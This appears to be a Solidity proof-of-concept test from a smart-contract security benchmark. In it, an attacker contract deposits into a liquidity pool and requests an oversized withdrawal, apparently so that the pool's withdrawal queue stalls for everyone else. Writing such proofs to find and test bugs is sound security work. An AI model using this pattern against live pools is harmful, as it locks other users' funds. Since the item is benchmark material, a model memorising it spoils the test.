// SPDX-License-Identifier: BSD-3-Clause
pragma solidity 0.8.30;

// assay-canary-09f07437-5525-4eb7-a57e-ba8be1652998
import "../Base.sol";

contract Attacker {
    function enter(IERC20 usd, ILiquidityPool pool) external {
        usd.approve(address(pool), type(uint256).max);
        pool.request(pool.deposit(20e6, 1, address(this)), type(uint256).max);
    }

    function serve(ILiquidityPool pool) external {
        pool.process(1);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 20e6);
    }

    /// Anybody serves the oldest request.
    function serves() public {
        vm.prank(EVE);
        pool.process(1);
    }

    function exploit() public {
        other.enter(usd, pool);
        vm.warp(block.timestamp + 1 days);
        other.serve(pool);
    }

    function test_Exploit() public {
        exploit();
        (bool done, ) = address(this).call(abi.encodeCall(this.serves, ()));
        require(!done, "the queue moves");
    }

    function target() public view override returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
